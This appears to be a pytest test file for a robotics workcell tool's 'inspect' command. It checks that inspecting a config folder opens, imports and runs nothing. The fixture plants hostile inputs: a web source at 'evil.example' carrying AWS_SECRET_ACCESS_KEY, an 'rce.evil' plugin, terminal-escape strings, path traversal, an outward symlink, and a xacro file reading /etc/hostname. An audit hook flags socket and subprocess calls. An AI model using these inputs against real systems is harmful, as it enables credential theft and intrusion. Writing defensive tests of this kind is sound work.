"""``seerob inspect`` tells what a folder would do, and does none of it."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest

from seerob.app.cli import main
from seerob.session.inspection import inspected

GUARDED = """
import json, os, sys, sysconfig
(command, cell, *more), found = sys.argv[1:], []
HOME = [os.path.realpath(p) for p in (cell, sys.prefix, sys.base_prefix, *filter(None, sys.path))]
NEVER = ("socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn")
def hook(event, args):
    if event.startswith(NEVER):
        found.append([event, repr(args)[:200]])
    elif event == "import" and args[0].split(".")[0] in ("evil", "rce", "offered_evil"):
        found.append([event, args[0]])
    elif event in ("open", "os.listdir", "os.scandir") and isinstance(args[0], str):
        real = os.path.realpath(args[0])
        if not any(real == home or real.startswith(home + os.sep) for home in HOME):
            found.append([event, real])
        elif event == "open" and args[1] and set(args[1]) & set("wax+") and not real.endswith(".pyc"):
            found.append(["written", real])
from seerob.app.cli import main
import seerob.session.inspection
sys.addaudithook(hook)
code = main([command, cell, *more])
sys.stdout.flush()
sys.stderr.write(json.dumps([int(code), found]))
"""

CELL = """
title = "\\u001b]0;owned\\u0007 \\u202etxt"
allow_writing = true
[[robots]]
name = "arm"
model = "arm.urdf.xacro"
[[robots]]
name = "b"
model = "package:example-robot-data/robots/x.urdf"
[[robots]]
name = "lift"
model = "lift.xml"
[[parts]]
name = "p"
mesh = "part.dae"
[[parts]]
name = "away"
mesh = "../away/secret.stl"
[[parts]]
name = "linked"
mesh = "link.stl"
[[sources]]
kind = "rce.evil"
[[sources]]
kind = "acme.offered"
[[sources]]
kind = "rtde"
robot = "arm"
host = "192.0.2.7"
[[sources]]
kind = "web"
name = "plc"
url = "http://evil.example/a?\\u001b[2J"
token_env = "AWS_SECRET_ACCESS_KEY"
[[sources]]
kind = "mvn"
human = "op"
port = "no number"
bind = "0.0.0.0"
[[sinks]]
kind = "recorder"
file = "a.mcap"
[[targets]]
at = "arm/tool0"
host = "192.0.2.9"
topic = "/go"
[[triggers]]
variable = "lamp"
criterion = "speed"
"""
XACRO = """<robot xmlns:xacro="http://www.ros.org/wiki/xacro" name="r">
<xacro:include filename="../away/secret.xacro"/><xacro:include filename="inner.xacro"/>
<xacro:property name="a" value="${load_yaml('/etc/hostname')}"/>
<link name="${[0]*1000000000}"><visual><geometry><mesh filename="package://pkg/m.stl"/></geometry></visual></link>
</robot>"""


@pytest.fixture
def cell(tmp_path):
    """A folder that would do all that there is."""
    away, folder = tmp_path / "away", tmp_path / "cell"
    folder.mkdir()
    away.mkdir()
    for name in ("secret.stl", "secret.xacro"):
        (away / name).write_text("PLANTED")
    (folder / "link.stl").symlink_to(away / "secret.stl")
    (folder / "workstation.toml").write_text(CELL)
    (folder / "arm.urdf.xacro").write_text(XACRO)
    (folder / "inner.xacro").write_text(XACRO)
    (folder / "part.dae").write_text("<COLLADA/>")
    (folder / "lift.xml").write_text('<!-- lift --><mujoco><include file="lift_arm.xml"/></mujoco>')
    (folder / "evil.py").write_text("raise SystemExit('ran')")
    (folder / "rce").mkdir()
    (folder / "rce" / "evil.py").write_text("raise SystemExit('ran')")
    return folder


def guarded(cell, *words):
    """Exit code, output, and what the interpreter noted of sockets, processes, imports and files."""
    done = subprocess.run(
        [sys.executable, "-P", "-c", GUARDED, *words], cwd=cell, capture_output=True, text=True, check=False
    )
    code, found = json.loads(done.stderr.splitlines()[-1])
    return code, done.stdout, found


def test_it_does_none_of_it(cell):
    code, told, found = guarded(cell, "inspect", str(cell))
    assert (code, found) == (0, [])
    assert "PLANTED" not in told
    assert "\x1b" not in told
    assert "\u202e" not in told
    # What would be noted: the same guard while the cell is checked.
    _, _, found = guarded(cell, "check-file", str(cell), "--allow-outside")
    assert {"subprocess.Popen", "open"} <= {event for event, _ in found}


def test_it_tells_all_of_it(cell):
    told = {f"{fact.does} {fact.what}" for fact in inspected(cell)}
    away, apart = (cell.parent / "away").resolve(), "a process with limits of memory and time for"
    for expected in (
        "reads arm.urdf.xacro (robots[0].model)",
        "reads inner.xacro (named in arm.urdf.xacro)",
        "reads files of the installed package example-robot-data (robots[1].model)",
        "reads package://pkg/m.stl, where that is in the folder or installed (named in arm.urdf.xacro)",
        f"outside {away}/secret.stl (parts[1].mesh): refused without --allow-outside",
        f"outside {away}/secret.stl (parts[2].mesh): refused without --allow-outside",
        f"outside {away}/secret.xacro (named in arm.urdf.xacro): refused without --allow-outside",
        "outside /etc/hostname (named in arm.urdf.xacro): refused without --allow-outside",
        f"starts {apart} xacro, which evaluates expressions (arm.urdf.xacro)",
        f"starts {apart} the parser of COLLADA (part.dae)",
        f"starts {apart} MuJoCo's reader of MJCF (lift.xml)",
        "refused module rce.evil (sources[0].kind): offered by no installed package; "
        "--allow-plugins imports it, which runs it",
        "connects run, probe: sources[2] (rtde) connects to 192.0.2.7:30004 and :30011, not encrypted",
        "starts run: a process that listens for sources[2]",
        "writes a.mcap, in the folder of results (sinks[0])",
        "writes run --allow-writing: to machines, /go at 192.0.2.9 (targets[0])",
        "writes run --allow-writing: to machines, lamp (triggers[0])",
    ):
        assert expected in told, "\n".join(sorted(told))
    (secret,) = [fact for fact in told if fact.startswith("sends ")]
    assert "the secret AWS_SECRET_ACCESS_KEY to whom sources[3] connects" in secret
    assert "evil.example" in secret
    (wrong,) = [fact for fact in told if "sources[4] (mvn)" in fact]
    assert "bind = 0.0.0.0, port = no number" in wrong
    assert wrong.endswith("(has mistakes)")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("a" + ".a" * 60 + " = 1", "nested too deeply"),
        ("sources = 3\nsinks = [1]\ntriggers = 'x'\n", ""),
        ("[[sources]]\nkind = 3\n[[sources]]\nkind = '../x'\n[[sources]]\nkind = '__main__'\n", ""),
        ("[[parts]]\nmesh = 'a\\nb'\nname = '" + "y" * 9000 + "'\n", ""),
        ("x = [\n" + "'/etc/hostname',\n" * 3000 + "]\n", "500"),
        ("not TOML", "not TOML"),
    ],
)
def test_a_hostile_file_fools_and_stops_it_not(tmp_path, text, said, capsys):
    (tmp_path / "workstation.toml").write_text(text)
    assert main(["inspect", str(tmp_path)]) in ((0, 3) if said else (0,))
    out = capsys.readouterr()
    assert len(out.out.splitlines()) < 600
    assert "Traceback" not in out.err


def test_a_workstation_file_that_is_a_link_is_not_followed_out_of_its_folder(tmp_path, capsys):
    (tmp_path / "secret").write_text('title = "PLANTED"')
    (tmp_path / "cell").mkdir()
    (tmp_path / "cell" / "workstation.toml").symlink_to(tmp_path / "secret")
    assert main(["inspect", str(tmp_path / "cell")]) == 0
    assert "refused without --allow-outside" in capsys.readouterr().out
    assert main(["check-file", str(tmp_path / "cell")]) == 3
    assert "outside the folder of the workstation" in capsys.readouterr().err
